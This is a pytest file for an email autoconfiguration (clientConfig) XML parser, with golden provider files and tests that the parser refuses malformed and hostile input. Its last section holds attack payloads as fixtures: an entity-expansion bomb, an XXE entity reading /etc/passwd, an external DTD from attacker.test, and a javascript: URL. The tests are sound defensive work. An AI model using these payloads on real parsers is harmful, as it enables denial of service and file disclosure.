"""The clientConfig v1.1 parser (app/core/discovery/clientconfig.py): golden files, every
socketType and authentication value, placeholders, candidates, and malformed or hostile input."""

from __future__ import annotations

import pickle
import time

import pytest

from app.core.discovery.clientconfig import (
    MAX_DOCUMENT_BYTES,
    AuthMethod,
    ClientConfig,
    DavService,
    DiscoveryDocumentError,
    LocalisedText,
    OAuth2Settings,
    ServerKind,
    ServerSettings,
    auth_kind_for,
    expand_placeholders,
    parse_clientconfig,
    to_account_configs,
)
from app.core.errors import Fault
from app.core.model import AuthKind, EmailAddress, Protocol, Provenance, Security, Trust
from app.core.texts import render

TARO = EmailAddress.parse("taro.yamada@example.test")
PROVENANCE = Provenance("autoconfig", Trust.HIGH, True, url="https://autoconfig.example.test/x")

# --- realistic sample files -------------------------------------------------------------------

# An ISP offering IMAP (two ways), POP3 and SMTP (two ways), with a documentation page.
ISP_FULL = """<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="example.test">
    <domain>example.test</domain>
    <domain>Example-Mail.test</domain>
    <domain>example.test</domain>
    <displayName>Example Internet Services</displayName>
    <displayShortName>Example</displayShortName>
    <incomingServer type="imap">
      <hostname>imap.example.test</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
      <authentication>password-encrypted</authentication>
    </incomingServer>
    <incomingServer type="imap">
      <hostname>imap.example.test</hostname>
      <port>143</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <incomingServer type="pop3">
      <hostname>pop.example.test</hostname>
      <port>995</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
      <pop3><leaveMessagesOnServer>true</leaveMessagesOnServer></pop3>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.example.test</hostname>
      <port>465</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.example.test</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
    <documentation url="https://help.example.test/mail/settings">
      <descr lang="en">Mail settings for other programs</descr>
      <descr lang="ja-JP">メールソフトの設定</descr>
    </documentation>
  </emailProvider>
</clientConfig>
""".encode()

# Microsoft 365 style: OAuth2, Exchange elements beside IMAP/POP, and an <oAuth2> block.
OAUTH_MICROSOFT = """<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="office365.com">
    <domain>corp.test</domain>
    <displayName>Microsoft 365</displayName>
    <incomingServer type="imap">
      <hostname>outlook.office365.com</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <authentication>OAuth2</authentication>
      <username>%EMAILADDRESS%</username>
    </incomingServer>
    <incomingServer type="pop3">
      <hostname>outlook.office365.com</hostname>
      <port>995</port>
      <socketType>SSL</socketType>
      <authentication>OAuth2</authentication>
      <username>%EMAILADDRESS%</username>
    </incomingServer>
    <incomingServer type="ews">
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <url>https://outlook.office365.com/ews/exchange.asmx</url>
    </incomingServer>
    <incomingServer type="owa">
      <authentication>OAuth2</authentication>
      <url>https://outlook.office365.com/owa/</url>
    </incomingServer>
    <incomingServer type="exchange">
      <hostname>outlook.office365.com</hostname>
      <port>443</port>
      <username>%EMAILADDRESS%</username>
      <socketType>SSL</socketType>
      <authentication>OAuth2</authentication>
      <owaURL>https://outlook.office365.com/owa/</owaURL>
      <ewsURL>https://outlook.office365.com/ews/exchange.asmx</ewsURL>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.office365.com</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <authentication>OAuth2</authentication>
      <username>%EMAILADDRESS%</username>
    </outgoingServer>
  </emailProvider>
  <oAuth2>
    <issuer>login.microsoftonline.com</issuer>
    <scope>https://outlook.office.com/IMAP.AccessAsUser.All
      https://outlook.office.com/SMTP.Send offline_access</scope>
    <authURL>https://login.microsoftonline.com/common/oauth2/v2.0/authorize</authURL>
    <tokenURL>https://login.microsoftonline.com/common/oauth2/v2.0/token</tokenURL>
  </oAuth2>
</clientConfig>
"""

# Calendar and contacts beside <emailProvider>, with placeholders in the URLs.
WITH_DAV = b"""<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="dav.example.test">
    <domain>example.test</domain>
    <displayName>Example DAV Mail</displayName>
    <incomingServer type="imap">
      <hostname>imap.example.test</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.example.test</hostname>
      <port>465</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
  </emailProvider>
  <calendar type="caldav">
    <username>%EMAILADDRESS%</username>
    <authentication>http-basic</authentication>
    <serverURL>https://dav.example.test/caldav/%EMAILADDRESS%/</serverURL>
  </calendar>
  <calendar type="webcal">
    <serverURL>https://dav.example.test/ics</serverURL>
  </calendar>
  <addressBook type="carddav">
    <username>%EMAILLOCALPART%</username>
    <authentication>http-basic</authentication>
    <authentication>OAuth2</authentication>
    <serverURL>https://%EMAILDOMAIN%/carddav/</serverURL>
  </addressBook>
</clientConfig>
"""

# A small Japanese ISP that offers POP3 only, its name in Japanese, user name = local part.
POP_ONLY_JP = """<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="example.jp.test">
    <domain>example.jp.test</domain>
    <displayName>サンプルネット</displayName>
    <displayShortName>サンプル</displayShortName>
    <incomingServer type="pop3">
      <hostname>pop.example.jp.test</hostname>
      <port>110</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILLOCALPART%</username>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <incomingServer type="pop3">
      <hostname>pop.example.jp.test</hostname>
      <port>110</port>
      <socketType>plain</socketType>
      <username>%EMAILLOCALPART%</username>
      <authentication>password-encrypted</authentication>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.example.jp.test</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <username>%EMAILLOCALPART%</username>
      <authentication>password-cleartext</authentication>
      <authentication>smtp-after-pop</authentication>
    </outgoingServer>
  </emailProvider>
</clientConfig>
""".encode()

# Gmail style: IMAP must be switched on first (<enable>), OAuth2 for a Google host.
WITH_ENABLE = """<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="googlemail.com">
    <domain>gmail.com</domain>
    <displayName>Google Mail</displayName>
    <incomingServer type="imap">
      <hostname>imap.gmail.com</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>smtp.gmail.com</hostname>
      <port>465</port>
      <socketType>SSL</socketType>
      <username>%EMAILADDRESS%</username>
      <authentication>OAuth2</authentication>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
    <enable visiturl="https://mail.google.com/mail/?ui=2&amp;shva=1#settings/fwdandpop">
      <instruction>Check 1.) Enable IMAP and 2.) Save changes</instruction>
      <instruction lang="ja">1) IMAP を有効にし、2) 変更を保存してください</instruction>
    </enable>
    <documentation url="http://mail.google.com/support/bin/answer.py?answer=13273">
      <descr>How to enable IMAP/POP3 in GMail</descr>
    </documentation>
  </emailProvider>
</clientConfig>
""".encode()

# Host names and user names made of placeholders; %REALNAME% is dropped.
PLACEHOLDERS = b"""<clientConfig version="1.1">
  <emailProvider id="hosted">
    <incomingServer type="imap">
      <hostname>mail.%EMAILDOMAIN%</hostname>
      <port>993</port>
      <socketType>SSL</socketType>
      <username>%EMAILLOCALPART%%REALNAME%</username>
      <authentication>password-cleartext</authentication>
    </incomingServer>
    <outgoingServer type="smtp">
      <hostname>%EMAILDOMAIN%</hostname>
      <port>587</port>
      <socketType>STARTTLS</socketType>
      <username>%REALNAME% %EMAILLOCALPART%@%EMAILDOMAIN%</username>
      <authentication>password-cleartext</authentication>
    </outgoingServer>
  </emailProvider>
</clientConfig>
"""


def _server(kind: str, body: str, *, direction: str = "incomingServer") -> bytes:
    """A minimal document whose only incoming server is ``body``."""
    extra = ""
    if direction == "outgoingServer":
        extra = (
            '<incomingServer type="imap"><hostname>imap.example.test</hostname>'
            "<port>993</port><socketType>SSL</socketType></incomingServer>"
        )
    return (
        f'<clientConfig><emailProvider id="x">{extra}'
        f'<{direction} type="{kind}">{body}</{direction}>'
        "</emailProvider></clientConfig>"
    ).encode()


def _raises(data: bytes | str, code: str) -> DiscoveryDocumentError:
    with pytest.raises(DiscoveryDocumentError) as info:
        parse_clientconfig(data, TARO)
    assert info.value.code == code, info.value.detail
    return info.value


# --- golden files -----------------------------------------------------------------------------


def test_isp_with_imap_pop_and_smtp() -> None:
    parsed = parse_clientconfig(ISP_FULL, TARO, source="https://autoconfig.example.test/mail")
    assert parsed.provider_id == "example.test"
    assert parsed.domains == ("example.test", "example-mail.test")
    assert parsed.display_name == "Example Internet Services"
    assert parsed.short_name == "Example"
    assert parsed.version == "1.1"
    full = "taro.yamada@example.test"
    cleartext = AuthMethod.PASSWORD_CLEARTEXT
    assert parsed.incoming == (
        ServerSettings(
            ServerKind.IMAP,
            "imap.example.test",
            993,
            Security.TLS,
            full,
            (cleartext, AuthMethod.PASSWORD_ENCRYPTED),
        ),
        ServerSettings(
            ServerKind.IMAP, "imap.example.test", 143, Security.STARTTLS, full, (cleartext,)
        ),
        ServerSettings(ServerKind.POP3, "pop.example.test", 995, Security.TLS, full, (cleartext,)),
    )
    assert [(s.host, s.port, s.security) for s in parsed.outgoing] == [
        ("smtp.example.test", 465, Security.TLS),
        ("smtp.example.test", 587, Security.STARTTLS),
    ]
    assert parsed.documentation[0].url == "https://help.example.test/mail/settings"
    assert parsed.documentation[0].description("ja") == "メールソフトの設定"
    assert parsed.documentation[0].description("de") == "Mail settings for other programs"
    assert parsed.oauth2 is None
    assert parsed.calendars == parsed.address_books == parsed.enable == ()
    assert parsed.notes == ()


def test_isp_candidates_follow_the_file_order() -> None:
    parsed = parse_clientconfig(ISP_FULL, TARO)
    configs = to_account_configs(parsed, TARO, PROVENANCE)
    assert [(c.incoming.protocol, c.incoming.port) for c in configs] == [
        (Protocol.IMAP, 993),
        (Protocol.IMAP, 143),
        (Protocol.POP3, 995),
    ]
    for config in configs:
        assert config.outgoing is not None
        assert (config.outgoing.host, config.outgoing.port) == ("smtp.example.test", 465)
        assert config.auth is AuthKind.PASSWORD
        assert config.provider_id == "example.test"
        assert config.provider_name == "Example Internet Services"
        assert config.provenance == PROVENANCE
        assert config.incoming.username == "taro.yamada@example.test"
    hint = configs[0].hints[0]
    assert hint.key == "discovery.hint.documentation"
    assert "https://help.example.test/mail/settings" in render(hint, "en")
    assert "https://help.example.test/mail/settings" in render(hint, "ja")
    assert configs[0].to_dict("ja")["hints"] == [render(hint, "ja")]


def test_microsoft_oauth_and_exchange_servers() -> None:
    address = EmailAddress.parse("hanako@corp.test")
    parsed = parse_clientconfig(OAUTH_MICROSOFT, address)
    assert [s.kind for s in parsed.incoming] == [
        ServerKind.IMAP,
        ServerKind.POP3,
        ServerKind.EWS,
        ServerKind.EXCHANGE,
    ]
    ews, exchange = parsed.exchange_servers
    assert (ews.host, ews.port, ews.url) == (
        "outlook.office365.com",
        443,
        "https://outlook.office365.com/ews/exchange.asmx",
    )
    assert exchange.owa_url == "https://outlook.office365.com/owa/"
    assert exchange.url == "https://outlook.office365.com/ews/exchange.asmx"
    with pytest.raises(ValueError, match="no Endpoint"):
        exchange.endpoint()
    # "owa" is not a kind this parser reads: skipped, and said so.
    assert [(n.code, n.where) for n in parsed.notes] == [
        ("type.unsupported", "incomingServer 4 (owa)")
    ]
    assert parsed.oauth2 == OAuth2Settings(
        issuer="login.microsoftonline.com",
        scopes=(
            "https://outlook.office.com/IMAP.AccessAsUser.All",
            "https://outlook.office.com/SMTP.Send",
            "offline_access",
        ),
        auth_url="https://login.microsoftonline.com/common/oauth2/v2.0/authorize",
        token_url="https://login.microsoftonline.com/common/oauth2/v2.0/token",
    )
    configs = to_account_configs(parsed, address, PROVENANCE)
    # Only IMAP and POP3 become candidates; Exchange is reported, not used.
    assert [c.incoming.protocol for c in configs] == [Protocol.IMAP, Protocol.POP3]
    assert {c.auth for c in configs} == {AuthKind.OAUTH2_MICROSOFT}


def test_google_oauth_and_enable_hint() -> None:
    address = EmailAddress.parse("taro@gmail.com")
    parsed = parse_clientconfig(WITH_ENABLE, address)
    (step,) = parsed.enable
    assert step.url == "https://mail.google.com/mail/?ui=2&shva=1#settings/fwdandpop"
    assert step.instructions == (
        LocalisedText(None, "Check 1.) Enable IMAP and 2.) Save changes"),
        LocalisedText("ja", "1) IMAP を有効にし、2) 変更を保存してください"),
    )
    assert step.instruction("ja") == "1) IMAP を有効にし、2) 変更を保存してください"
    assert step.instruction("en") == "Check 1.) Enable IMAP and 2.) Save changes"
    (config,) = to_account_configs(parsed, address, PROVENANCE)
    assert config.auth is AuthKind.OAUTH2_GOOGLE
    assert [h.key for h in config.hints] == [
        "discovery.hint.enable",
        "discovery.hint.documentation",
    ]
    assert config.hints[0].params["url"] == step.url
    assert step.url in render(config.hints[0], "ja")
    assert "http://mail.google.com/support/bin/answer.py?answer=13273" in render(config.hints[1])


def test_calendar_and_address_book() -> None:
    parsed = parse_clientconfig(WITH_DAV, TARO)
    assert parsed.calendars == (
        DavService(
            Protocol.CALDAV,
            "https://dav.example.test/caldav/taro.yamada@example.test/",
            "taro.yamada@example.test",
            (AuthMethod.HTTP_BASIC,),
        ),
    )
    assert parsed.address_books == (
        DavService(
            Protocol.CARDDAV,
            "https://example.test/carddav/",
            "taro.yamada",
            (AuthMethod.HTTP_BASIC, AuthMethod.OAUTH2),
        ),
    )
    assert ("type.unsupported", "calendar 2 (webcal)") in [(n.code, n.where) for n in parsed.notes]
    (config,) = to_account_configs(parsed, TARO, PROVENANCE)
    assert config.caldav == "https://dav.example.test/caldav/taro.yamada@example.test/"
    assert config.carddav == "https://example.test/carddav/"


def test_pop_only_japanese_isp() -> None:
    address = EmailAddress.parse("hanako@example.jp.test")
    parsed = parse_clientconfig(POP_ONLY_JP, address)
    assert parsed.display_name == "サンプルネット"
    assert parsed.mail_servers == parsed.incoming
    assert [(s.kind, s.security, s.username) for s in parsed.incoming] == [
        (ServerKind.POP3, Security.STARTTLS, "hanako"),
        (ServerKind.POP3, Security.PLAIN, "hanako"),
    ]
    assert parsed.outgoing[0].auth == (
        AuthMethod.PASSWORD_CLEARTEXT,
        AuthMethod.SMTP_AFTER_POP,
    )
    configs = to_account_configs(parsed, address, PROVENANCE)
    assert [c.incoming.security for c in configs] == [Security.STARTTLS, Security.PLAIN]
    assert configs[0].outgoing is not None and configs[0].outgoing.username == "hanako"
    assert configs[0].provider_name == "サンプルネット"
    assert configs[0].to_dict()["provider"] == {"id": "example.jp.test", "name": "サンプルネット"}


def test_placeholders_in_host_and_user_names() -> None:
    parsed = parse_clientconfig(PLACEHOLDERS, TARO)
    assert parsed.incoming[0].host == "mail.example.test"
    assert parsed.incoming[0].username == "taro.yamada"
    assert parsed.outgoing[0].host == "example.test"
    assert parsed.outgoing[0].username == "taro.yamada@example.test"


def test_placeholders_with_an_international_address() -> None:
    address = EmailAddress.parse("たろう@bücher.example")
    assert expand_placeholders("%EMAILADDRESS%", address) == "たろう@bücher.example"
    assert expand_placeholders("mail.%EMAILDOMAIN%", address) == "mail.bücher.example"
    assert (
        expand_placeholders("https://dav.test/%EMAILADDRESS%/", address, in_url=True)
        == "https://dav.test/%E3%81%9F%E3%82%8D%E3%81%86@xn--bcher-kva.example/"
    )
    parsed = parse_clientconfig(PLACEHOLDERS, address)
    assert parsed.incoming[0].host == "mail.xn--bcher-kva.example"


def test_an_address_for_which_the_file_was_not_parsed_is_refused() -> None:
    parsed = parse_clientconfig(ISP_FULL, TARO)
    with pytest.raises(ValueError, match="parsed for"):
        to_account_configs(parsed, EmailAddress.parse("other@example.test"), PROVENANCE)


# --- every socketType and authentication value ------------------------------------------------


@pytest.mark.parametrize(
    ("socket_type", "security"),
    [
        ("SSL", Security.TLS),
        ("STARTTLS", Security.STARTTLS),
        ("plain", Security.PLAIN),
        ("ssl", Security.TLS),
        (" StartTLS ", Security.STARTTLS),
        ("PLAIN", Security.PLAIN),
    ],
)
def test_socket_types(socket_type: str, security: Security) -> None:
    body = (
        f"<hostname>imap.example.test</hostname><port>143</port>"
        f"<socketType>{socket_type}</socketType>"
    )
    parsed = parse_clientconfig(_server("imap", body), TARO)
    assert parsed.incoming[0].security is security


def test_an_unknown_socket_type_is_skipped_with_a_note() -> None:
    body = (
        "<hostname>imap.example.test</hostname><port>993</port>"
        "<socketType>TLS</socketType><socketType>SSL</socketType>"
    )
    parsed = parse_clientconfig(_server("imap", body), TARO)
    assert parsed.incoming[0].security is Security.TLS
    assert [(n.code, n.value) for n in parsed.notes] == [("socket-type.unknown", "TLS")]


@pytest.mark.parametrize(
    ("value", "method"),
    [
        ("password-cleartext", AuthMethod.PASSWORD_CLEARTEXT),
        ("password-encrypted", AuthMethod.PASSWORD_ENCRYPTED),
        ("OAuth2", AuthMethod.OAUTH2),
        ("client-IP-address", AuthMethod.CLIENT_IP_ADDRESS),
        ("TLS-client-cert", AuthMethod.TLS_CLIENT_CERT),
        ("none", AuthMethod.NONE),
        ("smtp-after-pop", AuthMethod.SMTP_AFTER_POP),
        ("GSSAPI", AuthMethod.GSSAPI),
        ("NTLM", AuthMethod.NTLM),
        ("plain", AuthMethod.PASSWORD_CLEARTEXT),
        ("secure", AuthMethod.PASSWORD_ENCRYPTED),
        ("oauth2", AuthMethod.OAUTH2),
    ],
)
def test_authentication_values(value: str, method: AuthMethod) -> None:
    body = (
        "<hostname>smtp.example.test</hostname><port>587</port>"
        f"<socketType>STARTTLS</socketType><authentication>{value}</authentication>"
    )
    parsed = parse_clientconfig(_server("smtp", body, direction="outgoingServer"), TARO)
    assert parsed.outgoing[0].auth == (method,)


def test_every_authentication_is_kept_in_order_and_unknown_ones_noted() -> None:
    values = ["NTLM", "OAuth2", "kerberos-v9", "GSSAPI", "password-cleartext", "OAuth2"]
    body = "<hostname>imap.example.test</hostname><port>993</port><socketType>SSL</socketType>"
    body += "".join(f"<authentication>{v}</authentication>" for v in values)
    parsed = parse_clientconfig(_server("imap", body), TARO)
    assert parsed.incoming[0].auth == (
        AuthMethod.NTLM,
        AuthMethod.OAUTH2,
        AuthMethod.GSSAPI,
        AuthMethod.PASSWORD_CLEARTEXT,
    )
    assert [(n.code, n.value) for n in parsed.notes] == [("authentication.unknown", "kerberos-v9")]


@pytest.mark.parametrize(
    ("host", "methods", "issuer", "kind"),
    [
        ("outlook.office365.com", ["OAuth2"], None, AuthKind.OAUTH2_MICROSOFT),
        ("imap-mail.outlook.com", ["OAuth2"], None, AuthKind.OAUTH2_MICROSOFT),
        ("mail.corp.test", ["OAuth2"], "login.microsoftonline.com", AuthKind.OAUTH2_MICROSOFT),
        ("imap.gmail.com", ["OAuth2", "password-cleartext"], None, AuthKind.OAUTH2_GOOGLE),
        ("imap.example.test", ["OAuth2", "password-cleartext"], None, AuthKind.PASSWORD),
        ("imap.example.test", ["OAuth2"], None, AuthKind.PASSWORD),
        ("imap.example.test", ["GSSAPI", "password-encrypted"], None, AuthKind.PASSWORD),
        (
            "imap.example.test",
            ["password-cleartext", "OAuth2"],
            "accounts.google.com",
            AuthKind.PASSWORD,
        ),
        ("imap.example.test", ["OAuth2"], "accounts.google.com", AuthKind.OAUTH2_GOOGLE),
        ("imap.example.test", ["none"], None, AuthKind.NONE),
        ("imap.example.test", [], None, AuthKind.PASSWORD),
        ("notoutlook.com", ["OAuth2"], None, AuthKind.PASSWORD),
    ],
)
def test_auth_kind(host: str, methods: list[str], issuer: str | None, kind: AuthKind) -> None:
    server = ServerSettings(
        ServerKind.IMAP,
        host,
        993,
        Security.TLS,
        auth=tuple(AuthMethod(m) for m in methods),
    )
    oauth2 = OAuth2Settings(issuer) if issuer else None
    assert auth_kind_for(server, oauth2) is kind


# --- servers that are skipped -----------------------------------------------------------------

GOOD_IMAP = (
    '<incomingServer type="imap"><hostname>imap.example.test</hostname><port>993</port>'
    "<socketType>SSL</socketType></incomingServer>"
)


@pytest.mark.parametrize(
    ("body", "note"),
    [
        ("<port>993</port><socketType>SSL</socketType>", "hostname.missing"),
        ("<hostname>  </hostname><port>993</port><socketType>SSL</socketType>", "hostname.missing"),
        (
            "<hostname>imap example</hostname><port>993</port><socketType>SSL</socketType>",
            "hostname.invalid",
        ),
        (
            "<hostname>-imap.test</hostname><port>993</port><socketType>SSL</socketType>",
            "hostname.invalid",
        ),
        ("<hostname>imap.example.test</hostname><socketType>SSL</socketType>", "port.missing"),
        (
            "<hostname>imap.example.test</hostname><port>99999</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        (
            "<hostname>imap.example.test</hostname><port>0</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        (
            "<hostname>imap.example.test</hostname><port>65536</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        (
            "<hostname>imap.example.test</hostname><port>-1</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        (
            "<hostname>imap.example.test</hostname><port>９９３</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        (
            "<hostname>imap.example.test</hostname><port>abc</port><socketType>SSL</socketType>",
            "port.invalid",
        ),
        ("<hostname>imap.example.test</hostname><port>993</port>", "socket-type.missing"),
        (
            "<hostname>imap.example.test</hostname><port>993</port><socketType>x</socketType>",
            "socket-type.unknown",
        ),
    ],
)
def test_a_broken_server_is_skipped_and_the_next_one_used(body: str, note: str) -> None:
    document = (
        f'<clientConfig><emailProvider id="x"><incomingServer type="imap">{body}'
        f"</incomingServer>{GOOD_IMAP}</emailProvider></clientConfig>"
    )
    parsed = parse_clientconfig(document, TARO)
    assert [(s.host, s.port) for s in parsed.incoming] == [("imap.example.test", 993)]
    assert parsed.notes[-1].code == note
    assert parsed.notes[-1].where == "incomingServer 1 (imap)"
    # Alone, the same server leaves nothing usable: the error says why.
    error = _raises(_server("imap", body), "discovery.config.unusable")
    assert error.notes[-1].code == note
    assert note in str(error.detail["problems"])


def test_server_types_in_the_wrong_place_are_skipped() -> None:
    document = (
        '<clientConfig><emailProvider id="x">'
        '<incomingServer type="smtp"><hostname>a.test</hostname><port>25</port>'
        "<socketType>plain</socketType></incomingServer>"
        '<incomingServer type="nntp"><hostname>news.test</hostname><port>119</port>'
        "<socketType>plain</socketType></incomingServer>"
        '<outgoingServer type="imap"><hostname>b.test</hostname><port>993</port>'
        f"<socketType>SSL</socketType></outgoingServer>{GOOD_IMAP}"
        "</emailProvider></clientConfig>"
    )
    parsed = parse_clientconfig(document, TARO)
    assert [s.kind for s in parsed.incoming] == [ServerKind.IMAP]
    assert parsed.outgoing == ()
    assert [n.code for n in parsed.notes] == [
        "type.wrong-direction",
        "type.unsupported",
        "type.wrong-direction",
    ]
    (config,) = to_account_configs(parsed, TARO, PROVENANCE)
    assert config.outgoing is None


def test_bad_urls_are_skipped_with_notes() -> None:
    document = f"""<clientConfig><emailProvider id="x">{GOOD_IMAP}
      <documentation url="javascript:alert(1)"><descr>x</descr></documentation>
      <documentation url="https://user:pw@help.test/"/>
      <enable visiturl="ftp://x.test/"><instruction>Turn IMAP on</instruction></enable>
      </emailProvider>
      <calendar type="caldav"><serverURL>https://dav.test:99999/</serverURL></calendar>
      <addressBook type="carddav"/>
      <oAuth2><issuer>login.example.test</issuer><authURL>http://login.example.test/a</authURL>
        <tokenURL>https://login.example.test/t</tokenURL></oAuth2>
    </clientConfig>"""
    parsed = parse_clientconfig(document, TARO)
    assert parsed.documentation == ()
    assert parsed.calendars == parsed.address_books == ()
    assert parsed.enable[0].url is None
    assert parsed.oauth2 == OAuth2Settings(
        "login.example.test", (), None, "https://login.example.test/t"
    )
    assert [n.code for n in parsed.notes] == [
        "authURL.invalid",
        "serverURL.missing",
        "serverURL.invalid",
        "url.invalid",
        "url.invalid",
        "visiturl.invalid",
    ]
    (config,) = to_account_configs(parsed, TARO, PROVENANCE)
    assert [h.key for h in config.hints] == ["discovery.hint.enable-no-link"]


def test_only_exchange_servers_give_a_clear_error() -> None:
    document = """<clientConfig><emailProvider id="x">
      <incomingServer type="exchange"><hostname>mail.corp.test</hostname><port>443</port>
        <socketType>SSL</socketType></incomingServer>
    </emailProvider></clientConfig>"""
    parsed = parse_clientconfig(document, TARO)
    assert parsed.mail_servers == ()
    with pytest.raises(DiscoveryDocumentError) as info:
        to_account_configs(parsed, TARO, PROVENANCE)
    assert info.value.code == "discovery.config.exchange-only"
    assert "Exchange" in info.value.render("ja")
    assert info.value.detail["kinds"] == "exchange"


# --- malformed and hostile documents ----------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<clientConfig><emailProvider id="&lol9;"/></clientConfig>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE clientConfig [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<clientConfig><emailProvider id="x"><displayName>&xxe;</displayName></emailProvider>
</clientConfig>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE clientConfig SYSTEM "http://attacker.test/evil.dtd">
<clientConfig/>
"""


def test_not_xml() -> None:
    error = _raises(b"<html><body>Not found", "discovery.config.not-xml")
    assert error.fault is Fault.REMOTE_SERVER
    assert error.checked is not None and error.checked.key == "discovery.check.config"
    assert "XML" in error.render("ja")
    _raises(b"", "discovery.config.not-xml")
    _raises('{"json": true}', "discovery.config.not-xml")
    _raises(b"\xff\xfe\x00garbage", "discovery.config.not-xml")


def test_wrong_root() -> None:
    error = _raises(b"<html><body>Welcome</body></html>", "discovery.config.wrong-root")
    assert "<html>" in str(error)
    assert "<html>" in error.render("ja")


def test_no_email_provider() -> None:
    _raises(b'<clientConfig version="1.1"/>', "discovery.config.no-provider")


def test_no_servers_at_all() -> None:
    error = _raises(
        b'<clientConfig><emailProvider id="x"><domain>x.test</domain></emailProvider>'
        b"</clientConfig>",
        "discovery.config.unusable",
    )
    assert error.notes == ()
    finding = error.to_finding()
    assert finding.code == "discovery.config.unusable"
    assert finding.fix is not None and finding.fix.key == "discovery.fix"


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(document: bytes) -> None:
    started = time.perf_counter()
    error = _raises(document, "discovery.config.forbidden-xml")
    assert time.perf_counter() - started < 1
    assert error.detail["problem"] == "DTDForbidden"
    assert "DTD" in error.render("en")


def test_huge_input_is_refused_before_parsing() -> None:
    padding = b"<!-- " + b"x" * MAX_DOCUMENT_BYTES + b" -->"
    document = ISP_FULL.replace(b"<clientConfig", padding + b"<clientConfig", 1)
    error = _raises(document, "discovery.config.too-large")
    assert error.detail["limit"] == MAX_DOCUMENT_BYTES
    assert "1024 KB" in str(error)
    # Text counts in UTF-8 bytes: 400,000 Japanese characters are 1.2 MB.
    _raises("<clientConfig>" + "あ" * 400_000 + "</clientConfig>", "discovery.config.too-large")
    # Just under the limit is read.
    small = ISP_FULL.replace(b"<clientConfig", b"<!--" + b"x" * 900_000 + b"--><clientConfig", 1)
    assert parse_clientconfig(small, TARO).provider_id == "example.test"


def test_deeply_nested_input_is_handled() -> None:
    depth = 100_000
    document = "<clientConfig>" + "<a>" * depth + "</a>" * depth + "</clientConfig>"
    _raises(document, "discovery.config.no-provider")


def test_text_input_with_a_foreign_encoding_declaration() -> None:
    text = ISP_FULL.decode().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    assert parse_clientconfig(text, TARO).documentation[0].description("ja") == "メールソフトの設定"


def test_a_namespace_on_the_elements_is_tolerated() -> None:
    document = ISP_FULL.replace(b"<clientConfig ", b'<clientConfig xmlns="urn:example" ', 1)
    parsed = parse_clientconfig(document, TARO)
    assert len(parsed.incoming) == 3


def test_source_goes_into_the_details() -> None:
    with pytest.raises(DiscoveryDocumentError) as info:
        parse_clientconfig(b"nope", TARO, source="https://autoconfig.example.test/mail/config")
    assert info.value.detail["source"] == "https://autoconfig.example.test/mail/config"


def test_result_is_frozen() -> None:
    parsed = parse_clientconfig(ISP_FULL, TARO)
    assert isinstance(parsed, ClientConfig)
    with pytest.raises(AttributeError):
        parsed.display_name = "x"  # type: ignore[misc]


def test_the_error_survives_pickling_with_its_notes() -> None:
    error = _raises(
        _server("imap", "<port>993</port><socketType>SSL</socketType>"), "discovery.config.unusable"
    )
    copy = pickle.loads(pickle.dumps(error))
    assert (copy.code, copy.notes, copy.detail) == (error.code, error.notes, error.detail)
    assert str(copy) == str(error)
